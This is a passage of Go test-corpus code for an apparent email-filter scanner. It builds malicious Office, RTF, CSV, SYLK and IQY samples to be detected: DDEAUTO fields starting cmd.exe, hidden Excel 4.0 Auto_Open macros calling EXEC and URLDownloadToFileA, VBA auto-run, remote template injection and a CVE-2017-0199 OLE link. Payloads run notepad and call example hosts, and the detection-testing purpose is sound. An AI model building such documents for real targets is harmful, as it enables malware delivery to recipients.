package corpus

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"strings"

	f "github.com/kensa-milter/kensa/internal/corpus/formats"
	"github.com/kensa-milter/kensa/policy"
)

// Office documents the way attackers use them (issue 13): DDE, Excel 4.0
// macros, PowerPoint VBA, Equation Editor objects, obfuscated HTML and SVG,
// each with a benign twin. Every technique is written three ways: the file
// attached, the file inside a zip, and the file inside a mail (.eml) inside a
// zip, so a held-out sample in any wrapping is read the same way.
//
// The writers are checked against LibreOffice (Debian 12's 7.4, installed
// by scripts/deps.sh test) by the tests of package formats: LibreOffice
// reads our BIFF8 and BIFF12 workbooks' formulas, values, DDE links and
// Auto_Open names as we wrote them, and opens our .ppt files (persist
// directory, user edit, document, master, slide) as one-slide
// presentations; unpack's tests read a .ppt LibreOffice wrote. Checked
// once by hand and not run by the tests: the VelvetSweatshop-encrypted
// workbook opens without a password, so our RC4 matches Office's; the
// .docx (fields, header, footnotes, embeddings) and .rtf (objects with
// broken-up objdata) files open with their text.

// relWant is a finding a sample must produce, on a part named relative to the
// document ("" for the document itself, "/word/document.xml" for a member).
type relWant struct{ scanner, id, rel string }

// officeCase is one technique: a document and what it must trigger.
type officeCase struct {
	name, about string
	action      policy.Action
	subject     string
	body        string
	ctype, file string
	data        []byte
	wants       []relWant
}

// wrappings are the three ways a document travels: its path in the message
// and the root entity that carries it.
func wrappings(c officeCase) []struct {
	suffix, path, base string
	root               node
} {
	doc := attach(c.ctype, c.file, c.data)
	zipped := zipOf(file{c.file, c.data})
	inner := mail{from: "Supplier <billing@supplier.example.net>", to: "orders@shop.example.com", subject: c.subject,
		id: c.name + "-inner@supplier.example.net", root: multipart("mixed", text(c.body), doc)}
	zippedMail := zipOf(file{"forwarded.eml", inner.bytes()})
	// A MIME part's members are named below its file name, an archive
	// member's below its own path.
	return []struct {
		suffix, path, base string
		root               node
	}{
		{"", "2", "2/" + c.file, multipart("mixed", text(c.body), doc)},
		{"-in-zip", "2/documents.zip/" + c.file, "2/documents.zip/" + c.file, multipart("mixed", text(c.body), attach("application/zip", "documents.zip", zipped))},
		{"-in-zip-eml", "2/documents.zip/forwarded.eml/2", "2/documents.zip/forwarded.eml/2/" + c.file,
			multipart("mixed", text("Forwarding the mail below.\n"), attach("application/zip", "documents.zip", zippedMail))},
	}
}

// OfficeNames are the names of the Office samples (issue 13) and of the
// HTML phishing pages: each technique in its three wrappings, and the
// benign twins.
func OfficeNames() map[string]bool {
	out := map[string]bool{}
	for _, c := range allCases() {
		for _, suffix := range []string{"", "-in-zip", "-in-zip-eml"} {
			out[c.name+suffix] = true
		}
	}
	for _, s := range officeClean() {
		out[s.Name] = true
	}
	return out
}

// allCases are the techniques written in the three wrappings: Office,
// Office documents embedded in Office documents, LibreOffice, and HTML
// phishing pages.
func allCases() []officeCase {
	return append(append(append(append(append(append(append(append(append(officeCases(), embeddedObjectCases()...), libreOfficeCases()...), htmlPhishCases()...), remoteRefCases()...), officeLinkCases()...), clickfixCases()...), webArchiveCases()...), savedFileCases()...), utf16Cases()...)
}

func officeSamples() []Sample {
	var out []Sample
	for _, c := range allCases() {
		for _, w := range wrappings(c) {
			s := Sample{Name: c.name + w.suffix, About: c.about + map[string]string{"": "", "-in-zip": " (in a zip)", "-in-zip-eml": " (in a mail in a zip)"}[w.suffix], Action: c.action}
			for _, rw := range c.wants {
				where := w.path
				if rw.rel != "" {
					where = w.base + rw.rel
				}
				s.Want = append(s.Want, Want{rw.scanner, rw.id, where})
			}
			out = append(out, build(s, mail{subject: c.subject, root: w.root}))
		}
	}
	return out
}

func officeClean() []Sample {
	ok := func(name, about string) Sample { return Sample{Name: name, Clean: true, About: about} }
	var out []Sample
	add := func(s Sample, m mail) { out = append(out, build(s, m)) }
	add(ok("docx-ordinary-fields", "a Word document with PAGE, TOC and HYPERLINK fields, one split over runs"),
		mail{subject: "Handbook", root: multipart("mixed", text("The handbook, with its table of contents.\n"),
			attach("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "handbook.docx", docxOf(
				`<w:p>`+fldRuns(` TOC \o "1-3" \h \z \u `)+`</w:p>`+
					`<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://www.example.com/handbook&quot; "><w:r><w:t>Handbook online</w:t></w:r></w:fldSimple></w:p>`+
					`<w:p><w:r><w:t>Page </w:t></w:r>`+fldRuns(" PAGE ", `\* MERGEFORMAT `)+`</w:p>`, "", "", nil)))})
	add(ok("odc-intranet-sql", "a finance team's Office Data Connection file to the intranet SQL Server"),
		mail{subject: "Finance connection", root: multipart("mixed", text("The connection file for the finance cube.\n"),
			attach("application/octet-stream", "finance.odc", odcFile("Provider=SQLOLEDB.1;Integrated Security=SSPI;Initial Catalog=Finance;Data Source=SQLFIN01\\PROD")))})
	add(ok("iqy-own-site", "a web query (.iqy) to the sender's own site's price page"),
		mail{from: "Pricing <pricing@supplies.example.com>", subject: "Prices", root: multipart("mixed", text("Our live prices as a web query.\n"),
			attach("application/octet-stream", "prices.iqy", []byte("WEB\r\n1\r\nhttps://www.supplies.example.com/prices.html\r\n")))})
	add(ok("rtf-picture", "an RTF letter with an ordinary embedded PNG picture"),
		mail{subject: "Letter with logo", root: multipart("mixed", text("The letter with our logo.\n"),
			attach("application/rtf", "letter.rtf", []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Calibri;}}\pard Dear customer,\par{\pict\pngblip\picw24\pich16\picwgoal360\pichgoal240 `+
				hex.EncodeToString(chartPNG())+`}\par Kind regards\par}`)))})
	add(ok("rtf-local-template", "an RTF letter naming the local Normal.dotm as its template, as Word saves it"),
		mail{subject: "Letter", root: multipart("mixed", text("The letter as RTF.\n"),
			attach("application/rtf", "letter.rtf", []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Calibri;}}{\*\template C:\\Users\\kenji\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm}\pard Dear customer,\par Kind regards\par}`)))})
	add(ok("slk-sum", "a SYLK sheet as LibreOffice exports it, with a SUM formula"),
		mail{subject: "Totals", root: multipart("mixed", text("The totals as SYLK.\n"),
			attach("application/octet-stream", "totals.slk", []byte("ID;PCALCOOO32\r\nC;X1;Y1;K\"Item\"\r\nC;X2;Y1;K\"Amount\"\r\nC;X1;Y2;K\"A\"\r\nC;X2;Y2;K12\r\nC;X1;Y3;K\"Total\"\r\nC;X2;Y3;K12;ESUM(B2:B2)\r\nE\r\n")))})
	add(ok("rtf-embedded-object", "an RTF letter with an embedded (not linked) Word object, as Word saves one"),
		mail{subject: "Letter", root: multipart("mixed", text("The letter with the form inside.\n"),
			attach("application/rtf", "letter.rtf", rtfObject("Letter", "Word.Document.8", f.OLE1("Word.Document.8", f.OLELink("")), false)))})
	add(ok("flat-opc-docx", "a Word document saved as one XML file (Flat OPC), no macro"),
		mail{subject: "Memo", root: multipart("mixed", text("The memo as Word XML.\n"),
			attach("text/xml", "memo.xml", f.FlatOPC(f.FlatOPCPart{Name: "/word/document.xml", ContentType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
				XML: `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Memo for Monday</w:t></w:r></w:p></w:body></w:document>`})))})
	add(ok("mht-doc", "a Word document saved as a single-file web page (MHT) and named .doc, no macro"),
		mail{subject: "Memo", root: multipart("mixed", text("The memo as a web page.\n"),
			attach("application/msword", "memo.doc", f.WordWebArchive("Memo for Monday", nil)))})
	add(ok("xlsb-sum", "a binary workbook (.xlsb) whose cells sum and join with formulas, no macro sheet"),
		mail{subject: "Quarter", root: multipart("mixed", text("The quarter's figures.\n"),
			attach(ctXlsb, "quarter.xlsb", f.XLSB(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Q3", Formulas: []f.XLSFormula{
				{Row: 3, Col: 0, Rgce: f.Cat(f.PtgInt(1200), f.PtgInt(800), f.PtgFuncVar(2, f.FtabSum, false))},
				{Row: 4, Col: 0, Rgce: f.Cat(f.Ptg12Str("Total "), f.Ptg12Ref(3, 0), f.PtgConcat)}}}}})))})
	add(ok("xlsx-encrypted-velvetsweatshop", "an xlsx without macros, encrypted (Agile) under Office's default password: opened and clean"),
		mail{subject: "Figures", root: multipart("mixed", text("The figures, as promised.\n"),
			attach(ctXlsx, "figures.xlsx", f.AgileEncryptedOOXML(xlsx([][]string{{"Team", "Q1"}, {"Sales", "1200"}}, nil), f.DefaultOfficePassword, 100000)))})
	add(ok("docx-encrypted-standard-velvetsweatshop", "a docx with ordinary fields, encrypted (Standard AES-128) under Office's default password: opened and clean"),
		mail{subject: "Handbook", root: multipart("mixed", text("The handbook.\n"),
			attach(ctDocx, "handbook.docx", f.StandardEncryptedOOXML(docxOf(`<w:p>`+fldRuns(" PAGE ")+`</w:p>`, "", "", nil), f.DefaultOfficePassword)))})
	add(ok("xls-encrypted-cryptoapi-velvetsweatshop", "an xls without macros, encrypted with RC4 CryptoAPI under VelvetSweatshop as Excel writes it: opened and clean"),
		mail{subject: "Totals", root: multipart("mixed", text("Totals attached.\n"),
			attach("application/vnd.ms-excel", "totals.xls", f.EncryptedXLSCryptoAPI(f.XLSWorkbook{Sheets: []f.XLSSheet{{Name: "Data"}}}, f.DefaultOfficePassword, 128)))})
	add(ok("doc-encrypted-rc4-velvetsweatshop", "a Word 97 .doc with plain text and a PAGE field, encrypted with RC4 under VelvetSweatshop: opened and clean"),
		mail{subject: "Minutes", root: multipart("mixed", text("The minutes.\n"),
			attach("application/msword", "minutes.doc", f.CFB(f.EncryptWord(wordDocEntries("Minutes of the meeting \x13 PAGE \x14 1\x15"), f.DefaultOfficePassword, false))))})
	add(ok("ppt-encrypted-cryptoapi-velvetsweatshop", "a PowerPoint .ppt without macros, encrypted with RC4 CryptoAPI under VelvetSweatshop: opened and clean"),
		mail{subject: "Slides", root: multipart("mixed", text("The slides.\n"),
			attach("application/vnd.ms-powerpoint", "slides.ppt", f.PPTWith(f.PPTOptions{Password: f.DefaultOfficePassword})))})
	add(ok("csv-sum", "a CSV export whose last row sums the column with =SUM(A1:A3)"),
		mail{subject: "Totals", root: multipart("mixed", text("Totals attached.\n"),
			attach("text/csv", "totals.csv", []byte("amount,note\r\n12,a\r\n30,b|c\r\n=SUM(A1:A3),total\r\n")))})
	return append(append(append(append(append(append(append(append(out, embeddedObjectClean()...), libreOfficeClean()...), htmlPhishClean()...), officeLinkClean()...), clickfixClean()...), webArchiveClean()...), savedFileClean()...), utf16Clean()...)
}

// fldRuns writes a complex field with its instruction split over runs, as
// Word does after editing.
func fldRuns(parts ...string) string {
	s := `<w:r><w:fldChar w:fldCharType="begin"/></w:r>`
	for _, p := range parts {
		s += `<w:r><w:instrText xml:space="preserve">` + xmlEscape(p) + `</w:instrText></w:r>`
	}
	return s + `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
}

const (
	ctDocx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
	ctXlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
	ctXlsb = "application/vnd.ms-excel.sheet.binary.macroEnabled.12"
)

func officeCases() []officeCase {
	ddeCmd := `c:\\windows\\system32\\cmd.exe "/k notepad.exe"`
	return []officeCase{
		{name: "docx-dde-split-runs", about: "docx whose DDEAUTO field, split over runs with case and MERGEFORMAT noise, starts cmd.exe",
			action: policy.Reject, subject: "Order", body: "Please confirm the attached order.\n", ctype: ctDocx, file: "order.docx",
			data:  docxOf(`<w:p>`+fldRuns(" dDe", "AuTo ", ddeCmd, ` \* MERGEFORMAT `)+`</w:p>`, "", "", nil),
			wants: []relWant{{"heuristic", "dde-exec", "/word/document.xml"}}},
		{name: "docx-dde-header-fldsimple", about: "docx with a DDE fldSimple in its header, attribute in single quotes",
			action: policy.Reject, subject: "Letter", body: "Our letter is attached.\n", ctype: ctDocx, file: "letter.docx",
			data: docxOf(`<w:p><w:r><w:t>Dear customer</w:t></w:r></w:p><w:sectPr><w:headerReference w:type="default" r:id="rIdH1"/></w:sectPr>`, "", "", nil,
				docxPart{name: "word/header1.xml", ctype: "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml",
					relType: officeRel + "/header", relID: "rIdH1",
					data: []byte(xmlHead + `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:fldSimple w:instr='DDEAUTO "C:\\Programs\\Microsoft\\Office\\MSWord.exe\\..\\..\\..\\..\\windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe -NoP -c notepad" "for security reasons"'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:hdr>`)}),
			wants: []relWant{{"heuristic", "dde-exec", "/word/header1.xml"}}},
		{name: "docx-dde-quote-footnote", about: "docx with a DDEAUTO field in a footnote text box, its program spelled with a nested QUOTE field",
			action: policy.Reject, subject: "Notes", body: "Notes attached.\n", ctype: ctDocx, file: "notes.docx",
			data: docxOf(`<w:p><w:r><w:t>See the note.</w:t></w:r></w:p>`, "", "", nil,
				docxPart{name: "word/footnotes.xml", ctype: "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml",
					relType: officeRel + "/footnotes", relID: "rIdF1",
					data: []byte(xmlHead + `<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:footnote w:id="1"><w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent><w:p>` +
						`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO </w:instrText></w:r>` + fldRuns("QUOTE 99 109 100 46 101 120 101") +
						`<w:r><w:instrText xml:space="preserve"> "/c notepad"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p></w:footnote></w:footnotes>`)}),
			wants: []relWant{{"heuristic", "dde-exec", "/word/footnotes.xml"}}},
		{name: "docx-dde-word-layout", about: "docx whose DDEAUTO field Word-style spans three paragraphs: begin, instruction runs with rsids, proofing marks and a split switch, then separate and end",
			action: policy.Reject, subject: "Minutes", body: "The minutes of the meeting.\n", ctype: ctDocx, file: "minutes.docx",
			data: docxOf(`<w:p w:rsidR="00A13F2C" w:rsidRDefault="00A13F2C"><w:r><w:t xml:space="preserve">Minutes </w:t></w:r><w:r w:rsidR="00B2C4D1"><w:rPr><w:noProof/></w:rPr><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r>`+
				`<w:r w:rsidR="00B2C4D1"><w:rPr><w:noProof/></w:rPr><w:instrText xml:space="preserve"> DDE</w:instrText></w:r></w:p>`+
				`<w:p w:rsidR="00B2C4D1"><w:r><w:instrText xml:space="preserve">AUTO "C:\\Windows\\System32\\cmd.exe" </w:instrText></w:r><w:proofErr w:type="spellStart"/><w:r w:rsidR="00C3"><w:instrText xml:space="preserve">"/c notepad.exe" \</w:instrText></w:r><w:proofErr w:type="spellEnd"/>`+
				`<w:r><w:instrText>* MERGEFORMAT </w:instrText></w:r></w:p><w:p><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>!Unexpected End of Formula</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`, "", "", nil),
			wants: []relWant{{"heuristic", "dde-exec", "/word/document.xml"}}},
		{name: "docx-remote-template-mhtml", about: "docx whose attachedTemplate relation, prefixed and in single quotes, loads an mhtml: wrapper of a remote template",
			action: policy.Quarantine, subject: "Agreement", body: "The agreement for signature.\n", ctype: ctDocx, file: "agreement.docx",
			data:  docxOf(`<w:p><w:r><w:t>Agreement</w:t></w:r></w:p>`, "", `<pr:Relationship xmlns:pr="`+relsNS+`" Id='rId1' Type='`+officeRel+`/attachedTemplate' Target='mhtml:http://templates.example.net/t.mht!x-usc:http://templates.example.net/t.dotm' TargetMode='External'/>`, nil),
			wants: []relWant{{"heuristic", "remote-template", "/word/_rels/settings.xml.rels"}}},
		{name: "docx-remote-template-file-unc", about: "docx whose attachedTemplate relation loads a template from file://host, an SMB share",
			action: policy.Quarantine, subject: "Policy", body: "The new policy.\n", ctype: ctDocx, file: "policy.docx",
			data:  docxOf(`<w:p><w:r><w:t>Policy</w:t></w:r></w:p>`, "", `<Relationship Id="rId1" Type="`+officeRel+`/attachedTemplate" Target="file://203.0.113.7/share/policy.dotm" TargetMode="External"/>`, nil),
			wants: []relWant{{"heuristic", "remote-template", "/word/_rels/settings.xml.rels"}}},
		{name: "docm-document-close", about: "docm whose ThisDocument runs a program from Document_Close, when the reader closes it",
			action: policy.Reject, subject: "Form", body: "Please fill in the form and close it.\n", ctype: "application/vnd.ms-word.document.macroEnabled.12", file: "form.docm",
			data:  docx("Form", "", "", f.VBAProject(f.VBAModule{Name: "ThisDocument", Source: "Attribute VB_Name = \"ThisDocument\"\r\nPrivate Sub Document_Close()\r\n    CreateObject(\"WScript.Shell\").Run \"notepad.exe\", 0\r\nEnd Sub\r\n"})),
			wants: []relWant{{"heuristic", "vba-autorun-exec", "/word/vbaProject.bin/vba/ThisDocument"}}},
		{name: "csv-dde-minus-prefix", about: "CSV whose cell starts with - and adds a DDE call to cmd, the +/- form of formula injection",
			action: policy.Reject, subject: "Report", body: "The report.\n", ctype: "text/csv", file: "report.csv",
			data:  []byte("name,value\r\nalpha,-2+3+cmd|' /C notepad.exe'!A0\r\nbeta,+1\r\n"),
			wants: []relWant{{"heuristic", "dde-exec", ""}}},
		{name: "doc-dde-field", about: "Word 97 .doc whose DDEAUTO field starts cmd.exe",
			action: policy.Reject, subject: "Notice", body: "The notice.\n", ctype: "application/msword", file: "notice.doc",
			data:  wordDoc("Notice \x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k notepad.exe\" \x14!\x15 end"),
			wants: []relWant{{"heuristic", "dde-exec", "/WordDocument"}}},
		{name: "rtf-dde-fldinst", about: "RTF with a DDEAUTO field whose word is split over groups",
			action: policy.Reject, subject: "Statement", body: "Your statement.\n", ctype: "application/rtf", file: "statement.rtf",
			data:  []byte(`{\rtf1\ansi{\fonttbl{\f0 Calibri;}}\pard Statement\par{\field{\*\fldinst {\rtlch\fcs1 DDE}{AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k notepad.exe"}}{\fldrslt {x}}}}`),
			wants: []relWant{{"heuristic", "dde-exec", ""}}},
		{name: "rtf-remote-template", about: "RTF whose {\\*\\template} group loads a document template from a web server as Word opens it (RTF template injection)",
			action: policy.Quarantine, subject: "Agenda", body: "The agenda for Monday.\n", ctype: "application/rtf", file: "agenda.rtf",
			data:  []byte(`{\rtf1\ansi\deff0{\fonttbl{\f0 Calibri;}}{\*\template \'68ttps://templates.files.example.invalid/agenda.dotm}\pard Agenda\par}`),
			wants: []relWant{{"heuristic", "remote-template", ""}}},
		{name: "rtf-ole2link", about: "RTF with an auto-updating linked OLE object (\\objautlink\\objupdate) whose URL moniker names a remote .hta: CVE-2017-0199, Word fetches it as it opens the file",
			action: policy.Quarantine, subject: "Order", body: "The order.\n", ctype: "application/rtf", file: "order.rtf",
			data: bytes.Replace(rtfObject("Order", "Word.Document.8", f.OLE1("Word.Document.8", f.OLELink("http://files.example.invalid/order.hta")), false),
				[]byte(`\object\objemb`), []byte(`\object\objautlink\objupdate\rsltpict`), 1),
			wants: []relWant{{"heuristic", "remote-template", "/object1.Word.Document.8.bin/Root Entry/Ole"}}},
		{name: "xlsx-ddelink", about: "xlsx with an external DDE link to cmd",
			action: policy.Reject, subject: "Figures", body: "Figures attached.\n", ctype: ctXlsx, file: "figures.xlsx",
			data:  xlsxDDE(),
			wants: []relWant{{"heuristic", "dde-exec", "/xl/externalLinks/externalLink1.xml"}}},
		{name: "csv-dde-cmd", about: "CSV whose cell is =cmd|' /C ...'!A0 behind an @SUM",
			action: policy.Reject, subject: "Export", body: "The export.\n", ctype: "text/csv", file: "export.csv",
			data:  []byte("id,amount\r\n1,12\r\n2,\"@SUM(1+1)*cmd|' /C notepad.exe'!A0\"\r\n"),
			wants: []relWant{{"heuristic", "dde-exec", ""}}},
		{name: "slk-xlm-autoopen", about: "SYLK macro sheet (O;E) whose Auto_open name points at a cell running EXEC: the Excel 4.0 dropper in a text file",
			action: policy.Reject, subject: "Sheet", body: "The sheet.\n", ctype: "application/octet-stream", file: "sheet.slk",
			data:  []byte("ID;PWXL;N;E\r\nO;L;D;V0;K47;G100 0.001;E\r\nNN;NAuto_open;ER1C1\r\nC;Y1;X1;N;EEXEC(\"notepad.exe\")\r\nC;Y2;X1;N;EHALT()\r\nE\r\n"),
			wants: []relWant{{"heuristic", "xlm-autorun-exec", ""}}},
		{name: "slk-dde", about: "SYLK file whose cell formula is a DDE call to cmd",
			action: policy.Reject, subject: "Sheet", body: "The sheet.\n", ctype: "application/octet-stream", file: "sheet.slk",
			data:  []byte("ID;PWXL;N;E\r\nC;X1;Y1;K0;ECMD|' /C notepad.exe'!A0\r\nE\r\n"),
			wants: []relWant{{"heuristic", "dde-exec", ""}}},
		{name: "iqy-dde", about: "Excel web query (.iqy) carrying a DDE formula",
			action: policy.Reject, subject: "Query", body: "The query.\n", ctype: "application/octet-stream", file: "report.iqy",
			data:  []byte("WEB\r\n1\r\n=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c notepad'!''\r\n"),
			wants: []relWant{{"heuristic", "dde-exec", ""}}},
		{name: "iqy-web-query", about: "Excel web query (.iqy) that loads a remote sheet",
			action: policy.Tag, subject: "Live prices", body: "Open the query for live prices.\n", ctype: "application/octet-stream", file: "prices.iqy",
			data:  []byte("WEB\r\n1\r\nhttps://prices.example.net/live.php?list=[\"list\"]\r\n"),
			wants: []relWant{{"heuristic", "dde-link", ""}}},
		{name: "odc-sql-internet", about: "Office Data Connection file (.odc) whose connection string logs on to a SQL Server on the Internet with the reader's Windows credentials (Integrated Security=SSPI): Excel opens it and runs the query",
			action: policy.Tag, subject: "Sales figures", body: "Open the connection for the live sales figures.\n", ctype: "application/octet-stream", file: "sales.odc",
			data:  odcFile("Provider=SQLOLEDB.1;Integrated Security=SSPI;Persist Security Info=True;Initial Catalog=Sales;Data Source=sql.example.net"),
			wants: []relWant{{"heuristic", "query-file-fetch", ""}}},
		{name: "dqy-sql-internet", about: "Excel database query (.dqy) whose ODBC connection string logs on to a SQL Server on the Internet (Trusted_Connection)",
			action: policy.Tag, subject: "Report", body: "Open the query for the report.\n", ctype: "application/octet-stream", file: "report.dqy",
			data:  []byte("XLODBC\r\n1\r\nDRIVER=SQL Server;SERVER=tcp:db.example.net,1433;Trusted_Connection=Yes;DATABASE=sales\r\nSELECT * FROM orders\r\n"),
			wants: []relWant{{"heuristic", "query-file-fetch", ""}}},
		{name: "xls-xlm-auto-open-exec", about: "xls with a very hidden Excel 4.0 macro sheet, a built-in Auto_Open name and EXEC spelled with CHAR()",
			action: policy.Reject, subject: "Invoice", body: "Invoice attached, enable editing to view.\n", ctype: "application/vnd.ms-excel", file: "invoice.xls",
			data: f.XLS(f.XLSWorkbook{
				Sheets: []f.XLSSheet{{Name: "Sheet1"}, {Name: "Macro1", Macro: true, State: 2, Formulas: []f.XLSFormula{
					{Row: 0, Col: 0, Rgce: f.Cat(f.PtgChars("cmd /c notepad.exe"), f.PtgFuncVar(1, f.FtabExec, false))},
					{Row: 1, Col: 0, Rgce: f.PtgFuncVar(0, f.FtabHalt, false)}}}},
				Names: []f.XLSName{{Builtin: 1, Rgce: f.PtgRef3d(1, 0, 0)}}}),
			wants: []relWant{{"heuristic", "xlm-autorun-exec", "/xlm/Macro1"}, {"heuristic", "office-macro", "/xlm/Macro1"}}},
		{name: "xls-xlm-sheet-tucked", about: "xls whose very hidden Excel 4.0 macro sheet (Auto_Open, EXEC spelled with CHAR()) lies inside the body of a record of an unknown type after the globals: Excel and LibreOffice seek to each sheet where its BOUNDSHEET says, a reader walking the records never meets it",
			action: policy.Reject, subject: "Invoice", body: "Invoice attached, enable editing to view.\n", ctype: "application/vnd.ms-excel", file: "invoice.xls",
			data: f.XLS(f.XLSWorkbook{Tucked: true,
				Sheets: []f.XLSSheet{{Name: "Sheet1"}, {Name: "Macro1", Macro: true, State: 2, Formulas: []f.XLSFormula{
					{Row: 0, Col: 0, Rgce: f.Cat(f.PtgChars("cmd /c notepad.exe"), f.PtgFuncVar(1, f.FtabExec, false))},
					{Row: 1, Col: 0, Rgce: f.PtgFuncVar(0, f.FtabHalt, false)}}}},
				Names: []f.XLSName{{Builtin: 1, Rgce: f.PtgRef3d(1, 0, 0)}}}),
			wants: []relWant{{"heuristic", "xlm-autorun-exec", "/xlm/Macro1"}}},
		{name: "xls-xlm-wide-name-register", about: "xls whose hidden macro sheet runs from a full-width \"Ａｕｔｏ_Ｏｐｅｎ\" name and registers URLDownloadToFileA",
			action: policy.Reject, subject: "Report", body: "The report.\n", ctype: "application/vnd.ms-excel", file: "report.xls",
			data: f.XLS(f.XLSWorkbook{
				Sheets: []f.XLSSheet{{Name: "Data"}, {Name: "x", Macro: true, State: 1, Formulas: []f.XLSFormula{
					{Row: 0, Col: 0, Rgce: f.Cat(f.PtgStr("URLMON"), f.PtgStr("URLDownloadToFileA"), f.PtgStr("JJCCJJ"), f.PtgFuncVar(3, f.FtabRegister, false))},
					{Row: 1, Col: 0, Rgce: f.Cat(f.PtgStr("Kernel32"), f.PtgStr("WinExec"), f.PtgStr("JCJ"), f.PtgStr("notepad.exe"), f.PtgInt(0), f.PtgFuncVar(5, f.FtabCall, false))}}}},
				Names: []f.XLSName{{Name: "Ａｕｔｏ_Ｏｐｅｎ7", Wide: true, Rgce: f.PtgRef3d(1, 0, 0)}}}),
			wants: []relWant{{"heuristic", "xlm-autorun-exec", "/xlm/x"}}},
		{name: "xls-xlm-formula-chain", about: "xls whose Auto_Open macro writes an EXEC formula into another cell with FORMULA, the text built from CHAR(), then jumps to it",
			action: policy.Reject, subject: "Invoice", body: "The invoice.\n", ctype: "application/vnd.ms-excel", file: "invoice.xls",
			data: f.XLS(f.XLSWorkbook{
				Sheets: []f.XLSSheet{{Name: "Sheet1"}, {Name: "Sheet2", Macro: true, State: 1, Formulas: []f.XLSFormula{
					{Row: 0, Col: 0, Rgce: f.Cat(f.PtgChars("=EXEC(\"notepad.exe\")"), f.PtgRef3d(1, 4, 0), f.PtgFuncVar(2, f.CetabFormula, true))},
					{Row: 1, Col: 0, Rgce: f.Cat(f.PtgRef3d(1, 4, 0), f.PtgFunc(0x35))}}}},
				Names: []f.XLSName{{Name: "auto_open", Rgce: f.PtgRef3d(1, 0, 0)}}}),
			wants: []relWant{{"heuristic", "xlm-autorun-exec", "/xlm/Sheet2"}}},
		{name: "xlsm-macrosheet-elsewhere", about: "xlsm whose macro sheet is filed as xl/sheets/sheet1.xml: Excel follows the relationship's type, not the folder",
			action: policy.Reject, subject: "Rates", body: "Rates attached.\n", ctype: "application/vnd.ms-excel.sheet.macroEnabled.12", file: "rates.xlsm",
			data:  xlsmMacroSheetIn("sheets", `<c r="A1"><f>EXEC("cmd /c notepad.exe")</f></c>`),
			wants: []relWant{{"heuristic", "xlm-autorun-exec", "/xl/sheets/sheet1.xml"}}},
		{name: "xlsm-intl-macrosheet", about: "xlsm whose Excel 4.0 sheet is an international macro sheet (xl/intlMacrosheets) calling EXEC from Auto_Open",
			action: policy.Reject, subject: "Rates", body: "Rates attached.\n", ctype: "application/vnd.ms-excel.sheet.macroEnabled.12", file: "rates.xlsm",
			data:  xlsmMacroSheetIn("intlMacrosheets", `<c r="A1"><f>EXEC("cmd /c notepad.exe")</f></c>`),
			wants: []relWant{{"heuristic", "xlm-autorun-exec", "/xl/intlMacrosheets/sheet1.xml"}}},
		{name: "xlsm-macrosheet-exec", about: "xlsm with an XML macro sheet calling EXEC and an _xlnm.Auto_Open name",
			action: policy.Reject, subject: "Prices", body: "Prices attached.\n", ctype: "application/vnd.ms-excel.sheet.macroEnabled.12", file: "prices.xlsm",
			data:  xlsmMacroSheet(`<c r="A1"><f>EXEC("cmd /c notepad.exe")</f></c><c r="A2"><f>HALT()</f></c>`),
			wants: []relWant{{"heuristic", "xlm-autorun-exec", "/xl/macrosheets/sheet1.xml"}}},
		{name: "xlsb-xlm-auto-open-exec", about: "xlsb (binary workbook) with a very hidden Excel 4.0 macro sheet, a built-in Auto_Open name and EXEC spelled with CHAR()",
			action: policy.Reject, subject: "Statement", body: "Your statement, enable content to view.\n", ctype: ctXlsb, file: "statement.xlsb",
			data: f.XLSB(f.XLSWorkbook{
				Sheets: []f.XLSSheet{{Name: "Sheet1"}, {Name: "Macro1", Macro: true, State: 2, Formulas: []f.XLSFormula{
					{Row: 0, Col: 0, Rgce: f.Cat(f.PtgChars("cmd /c notepad.exe"), f.PtgFuncVar(1, f.FtabExec, false))},
					{Row: 1, Col: 0, Rgce: f.Cat(f.Ptg12Str("URLMON"), f.Ptg12Str("URLDownloadToFileA"), f.Ptg12Str("JJCCJJ"), f.PtgFuncVar(3, f.FtabRegister, false))},
					{Row: 2, Col: 0, Rgce: f.PtgFuncVar(0, f.FtabHalt, false)}}}},
				Names: []f.XLSName{{Builtin: 1, Rgce: f.Ptg12Ref3d(1, 0, 0)}}}),
			wants: []relWant{{"heuristic", "xlm-autorun-exec", "/xlm/Macro1"}, {"heuristic", "office-macro", "/xlm/Macro1"}}},
		{name: "xlsb-dde-link", about: "xlsb whose cell formula =cmd|'/c notepad.exe'!A0 names its external link part, a DDE conversation with cmd",
			action: policy.Reject, subject: "Figures", body: "Figures attached.\n", ctype: ctXlsb, file: "figures.xlsb",
